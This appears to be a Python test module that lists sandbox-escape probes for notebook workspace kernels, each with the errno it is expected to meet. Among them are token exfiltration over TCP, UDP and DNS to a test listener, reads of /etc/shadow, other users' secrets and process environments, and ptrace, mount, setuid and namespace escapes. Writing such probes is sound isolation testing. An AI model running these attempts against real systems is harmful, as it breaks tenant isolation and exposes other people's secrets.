"""What code in a kernel of a workspace may try, what becomes of it there, and where the same code goes through.

Each attack is Python that `kernel_inside` runs; `at` says what things are called in the place where it runs. It goes
through when it ends without an error. `docs/probes-kernel.md` is this list as a table.
"""

from dataclasses import dataclass

PLACES = {
    "workspace": "a workspace as its spawn plan makes it",
    "outside": "the same account, in no sandbox",
    "own namespaces": "root of new namespaces of the same account",
    "may gain rights": "the same account, without `no_new_privs`",
    "writable": "the workspace, with its read-only mounts writable",
    "networked": "the workspace, in the network of the machine",
    "unfiltered": "the workspace, without the filter of system calls",
    "unlimited": "the workspace, without limits",
}


@dataclass(frozen=True)
class Probe:
    """One thing to try."""

    group: str
    name: str
    attack: str
    control: str
    """The place of `PLACES` where it must go through; else it shows nothing."""
    refused: tuple[str, ...]
    """What may become of it in a workspace: names of errno, `nothing`, `killed by 31`, or `lost` (sent, never arrived)."""
    arrives: bool = False
    """It goes through when a listener got `at["token"]`, whatever the attack itself saw."""
    machine: str = ""
    """Only on this kind of machine."""


READ_ONLY = {
    "write over a file": 'open(at["{0}"] + "/file", "r+b").write(b"x")',
    "append to a file": 'open(at["{0}"] + "/file", "ab").write(b"x")',
    "empty a file": 'os.truncate(at["{0}"] + "/file", 0)',
    "create a file": 'open(at["{0}"] + "/new", "xb")',
    "create a file without a name": 'os.open(at["{0}"], os.O_TMPFILE | os.O_RDWR)',
    "create a folder": 'os.mkdir(at["{0}"] + "/folder")',
    "create a link in it": 'os.symlink("/etc/passwd", at["{0}"] + "/link")',
    "change the mode of a file": 'os.chmod(at["{0}"] + "/file", 0o777)',
    "change the mode of the folder": 'os.chmod(at["{0}"], 0o777)',
    "change times": 'os.utime(at["{0}"] + "/file", (1, 1))',
    "rename in it": 'os.rename(at["{0}"] + "/other", at["{0}"] + "/renamed")',
    "delete a file": 'os.unlink(at["{0}"] + "/file2")',
    "open a read-only descriptor again for writing": (
        'fd = os.open(at["{0}"] + "/file", os.O_RDONLY)\nos.open("/proc/self/fd/%d" % fd, os.O_RDWR)'
    ),
    "map a file for writing": (
        'fd = os.open(at["{0}"] + "/file3", os.O_RDWR)\nmmap.mmap(fd, 1, mmap.MAP_SHARED, mmap.PROT_WRITE)'
    ),
}
CROSSING = {
    "move a file into it": 'open(at["home"] + "/m", "w")\nos.rename(at["home"] + "/m", at["{0}"] + "/m")',
    "link a file of it elsewhere": 'os.link(at["{0}"] + "/file", at["home"] + "/linked-{0}")',
}


def _files():
    for place, shown in (("data", "/data"), ("imports", "/imports")):
        for name, attack in READ_ONLY.items():
            yield Probe("files", f"{shown}: {name}", attack.format(place), "writable", ("EROFS",))
        for name, attack in CROSSING.items():
            yield Probe("files", f"{shown}: {name}", attack.format(place), "outside", ("EROFS", "EXDEV"))
        remount = f'in_child(lambda: call(165, 40, None, at["{place}"].encode(), None, 0x1020, None))'
        bind = f'if os.getuid() == 0: call(165, 40, at["{place}"].encode(), at["{place}"].encode(), None, 0x1000, None)\n'
        yield Probe("files", f"{shown}: remount it writable", bind + remount, "own namespaces", ("EPERM",))
    yield Probe(
        "files",
        "put another socket in the door's place",
        'open(at["door"] + "/new", "x")',
        "outside",
        ("EROFS",),
    )


def _send(family, kind, address):
    connect = "one.connect(to); one.send" if kind == "STREAM" else "one.sendto"
    more = "" if kind == "STREAM" else ", to"
    return (
        f"one = socket.socket(socket.{family}, socket.SOCK_{kind})\none.settimeout(3)\nto = ({address!r}, at['port'])\n"
        f"{connect}(at['token'].encode(){more})"
    )


_DNS = """
name = b"".join(bytes([len(part)]) + part for part in (at["token"].encode(), b"example", b"org")) + b"\\0"
query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (ADDRESS, at["dns"]))
"""


def _network():
    gone = ("ECONNREFUSED", "ENETUNREACH", "EADDRNOTAVAIL", "lost")
    for what, address in (
        ("loopback of the machine", "127.0.0.1"),
        ("a listener in its network", "192.0.2.10"),
    ):
        for kind, shown in (("STREAM", "TCP"), ("DGRAM", "UDP")):
            yield Probe(
                "network",
                f"{shown} to {what}",
                _send("AF_INET", kind, address),
                "networked",
                gone,
                arrives=True,
            )
        dns = _DNS.replace("ADDRESS", repr(address))
        yield Probe("network", f"a DNS question to {what}", dns, "networked", gone, arrives=True)
    for what, address in (("loopback of the machine", "::1"), ("a listener in its network", "fd00::10")):
        for kind, shown in (("STREAM", "TCP"), ("DGRAM", "UDP")):
            attack = _send("AF_INET6", kind, address)
            yield Probe("network", f"{shown} by IPv6 to {what}", attack, "networked", gone, arrives=True)
    fast = "socket.socket().sendto(at['token'].encode(), 0x20000000, ('192.0.2.10', at['port']))"
    yield Probe("network", "TCP with data in its first packet", fast, "networked", gone, arrives=True)
    abstract = "one = socket.socket(socket.AF_UNIX)\none.connect('\\0' + at['abstract'])\none.send(at['token'].encode())"
    yield Probe("network", "an abstract socket of the machine", abstract, "networked", gone, arrives=True)
    yield Probe("network", "a raw socket", "socket.socket(2, 3, 1)", "own namespaces", ("EPERM",))
    yield Probe("network", "a raw socket by IPv6", "socket.socket(10, 3, 58)", "own namespaces", ("EPERM",))
    yield Probe(
        "network", "a packet socket", "socket.socket(17, 3, 0x300)", "own namespaces", ("EAFNOSUPPORT",)
    )
    yield Probe(
        "network",
        "a socket to the host of a virtual machine",
        "socket.socket(40, 1)",
        "unfiltered",
        ("EAFNOSUPPORT",),
    )
    yield Probe(
        "network", "netlink: events of devices", "socket.socket(16, 3, 15)", "unfiltered", ("EAFNOSUPPORT",)
    )
    yield Probe(
        "network", "netlink: the firewall", "socket.socket(16, 3, 12)", "unfiltered", ("EAFNOSUPPORT",)
    )
    address = 'import fcntl\nto = struct.pack("16sHH4s8x", b"lo", 2, 0, socket.inet_aton("192.0.2.77"))\n'
    address += "fcntl.ioctl(socket.socket(), 0x8916, to)"
    yield Probe("network", "give its own interface an address", address, "own namespaces", ("EPERM",))
    for name, what in (("control", "the control plane's"), ("lab", "another workspace's")):
        attack = f'socket.socket(socket.AF_UNIX).connect(at["{name}"])'
        yield Probe("network", f"{what} socket", attack, "outside", ("ENOENT",))
    for method, path, what in (
        ("GET", "/hub/api/users", "list people"),
        ("POST", "/hub/api/users/wother/server", "start somebody's server"),
        ("POST", "/hub/api/users/%s/tokens", "make a token"),
        ("POST", "/hub/api/shutdown", "end the hub"),
        ("GET", "/hub/login", "its pages"),
        ("GET", "/hub/api/user/../users", "list people by a detour"),
    ):
        attack = (
            "one = socket.socket(socket.AF_UNIX); one.connect(at['hub'])\n"
            f"path = {path!r}.replace('%s', at['principal'])\n"
            f"one.sendall(('{method} ' + path + ' HTTP/1.1\\r\\nHost: hub\\r\\nContent-Length: 0\\r\\n\\r\\n').encode())\n"
            "if b' 403 ' in one.recv(65536).split(b'\\r\\n')[0]: raise PermissionError(1, 'no')"
        )
        yield Probe("network", f"ask the hub: {what}", attack, "outside", ("EPERM",))


def _others():
    for name, what in (
        ("other_home", "another person's home in this project"),
        ("other_project", "another project's folder"),
        ("other_data", "a dataset that is not granted"),
        ("database", "the database"),
        ("secret", "a service's secret"),
        ("host_home", "a key in the home of the machine's user"),
    ):
        yield Probe("others", f"read {what}", f'open(at["{name}"], "rb").read()', "outside", ("ENOENT",))
    find = 'if not files_named(at["marker"], at["tops"]): raise Nothing'
    yield Probe("others", "find files of others anywhere", find, "outside", ("nothing",))
    yield Probe("others", "see that there is a shadow file", 'os.stat("/etc/shadow")', "outside", ("ENOENT",))
    accounts = 'if b"daemon:" not in read("/etc/passwd"): raise Nothing'
    yield Probe("others", "read the machine's accounts", accounts, "outside", ("nothing",))
    agent = 'socket.socket(socket.AF_UNIX).connect(at["agent"])'
    yield Probe("others", "a key agent's socket", agent, "outside", ("ENOENT",))
    see = 'if not any(at["victim_word"].encode() in read(one + "/cmdline") for one in everybody()): raise Nothing'
    yield Probe("others", "see another workspace's processes", see, "outside", ("nothing",))
    environment = see.replace("/cmdline", "/environ").replace("victim_word", "victim_secret")
    yield Probe("others", "read another workspace's environment", environment, "outside", ("nothing",))
    yield Probe("others", "signal another process", 'os.kill(at["victim"], 0)', "outside", ("ESRCH",))
    paths = (
        'text = b"".join(read(one + "/environ") + read(one + "/cmdline") for one in [*everybody(), "/proc/self"])\n'
        'if at["state"].encode() not in text: raise Nothing'
    )
    yield Probe(
        "others", "paths of the machine in environments and command lines", paths, "outside", ("nothing",)
    )
    log = (
        'names = [name for one in [*everybody(), "/proc/self"] for name in descriptors(one)]\n'
        'if not any(name.startswith(at["state"]) for name in names): raise Nothing'
    )
    yield Probe("others", "an open file or folder of the machine", log, "outside", ("nothing",))
    name = 'if os.uname().nodename != at["hostname"]: raise Nothing'
    yield Probe("others", "the machine's name", name, "outside", ("nothing",))


_PTRACE = "in_child(lambda: call(101, 117, 0, 0, 0, 0))"
_PEEK = """
pid = os.fork()
if pid == 0: time.sleep(3); os._exit(0)
there, here = ctypes.create_string_buffer(b"x", 8), ctypes.create_string_buffer(8)
part = struct.pack("QQ", ctypes.addressof(here), 8), struct.pack("QQ", ctypes.addressof(there), 8)
try: call(310, 270, pid, part[0], 1, part[1], 1, 0)
finally: os.kill(pid, 9); os.waitpid(pid, 0)
"""
_TAKE_FD = """
pid = os.fork()
if pid == 0: time.sleep(3); os._exit(0)
try: call(438, 438, os.pidfd_open(pid), 1, 0)
finally: os.kill(pid, 9); os.waitpid(pid, 0)
"""
_INT80 = """
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("b814000000cd80c3"))  # getpid by the table of 32-bit programs
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
"""
_GAIN = """
said = subprocess.run(["/usr/bin/su", "--version"], env={"LD_SHOW_AUXV": "1"}, capture_output=True, text=True).stdout
if any(line.split() == ["AT_SECURE:", "0"] for line in said.splitlines()): raise Nothing
"""
_SETUID_MOUNT = """
rows = [line.split() for line in open("/proc/self/mountinfo")]
if all("nosuid" in row[5].split(",") for row in rows): raise Nothing
"""


def _kernel():
    own, out, free = "own namespaces", "outside", "unfiltered"
    mount = 'call(165, 40, b"none", at["tmp"].encode(), b"tmpfs", 0, None)'
    for name, attack, control, refused in (
        ("mount a file system", mount, own, "EPERM"),
        ("change its root", 'call(161, 51, b"/")', own, "EPERM"),
        ("new mount namespace", "call(272, 97, 0x20000)", own, "EPERM"),
        ("new network namespace", "call(272, 97, 0x40000000)", own, "EPERM"),
        ("new user namespace by unshare", "in_child(lambda: call(272, 97, 0x10000000))", out, "EPERM"),
        (
            "new user namespace by clone",
            "if not call(56, 220, 0x10000011, 0, 0, 0, 0): os._exit(0)",
            out,
            "EPERM",
        ),
        ("clone3, whose flags no filter sees", "reached(435, 435, 0, 0)", out, "ENOSYS"),
        ("trace a process", _PTRACE, out, "EPERM"),
        ("read the memory of a process", _PEEK, out, "EPERM"),
        ("take a descriptor of a process", _TAKE_FD, out, "EPERM"),
        ("bpf", "reached(321, 280, 7, 0, 0)", out, "EPERM"),
        ("io_uring", "call(425, 425, 8, ctypes.create_string_buffer(120))", out, "ENOSYS"),
        ("handle page faults", "call(323, 282, 1)", out, "EPERM"),
        ("its keyring", "call(250, 219, 0, -3, 1)", out, "EPERM"),
        ("add a key", 'call(248, 217, b"user", b"broch", b"x", 1, -3)', out, "EPERM"),
        ("memory without a process (SysV)", "call(29, 194, 0, 4096, 0o1600)", out, "EPERM"),
        ("file handles", 'reached(303, 264, -100, b"/", 0, 0, 0)', free, "EPERM"),
        ("make all memory executable", "call(135, 92, 0x0400000)", out, "EPERM"),
        ("leave its processors", "call(203, 122, 0, 8, (ctypes.c_ulong * 1)(1))", out, "EPERM"),
        ("become root", "os.setuid(0)", own, "EINVAL"),
        ("become the group of root", "os.setgid(0)", own, "EINVAL"),
        ("gain rights by a setuid program", _GAIN, "may gain rights", "nothing"),
        ("a mount that honours setuid", _SETUID_MOUNT, out, "nothing"),
        (
            "hide from the kernel when memory is short",
            'open("/proc/self/oom_score_adj", "w").write("1000")',
            out,
            "EROFS",
        ),
        ("go before others", "os.setpriority(os.PRIO_PROCESS, 0, 0)", out, "EACCES"),
    ):
        yield Probe("kernel", name, attack, control, (refused,))
    yield Probe("kernel", "a 32-bit system call", _INT80, out, ("killed by 31",), machine="x86_64")
    for limit, more in (("NPROC", "1000"), ("NOFILE", "5000"), ("DATA", "-1"), ("FSIZE", "-1")):
        attack = f"resource.setrlimit(resource.RLIMIT_{limit}, ({more}, {more}))"
        yield Probe("kernel", f"raise its limit {limit}", attack, "unlimited", ("EPERM",))
    yield Probe(
        "kernel",
        "turn core dumps on",
        "resource.setrlimit(resource.RLIMIT_CORE, (1 << 20,) * 2)",
        out,
        ("EPERM",),
    )


PROBES = (*_files(), *_network(), *_others(), *_kernel())
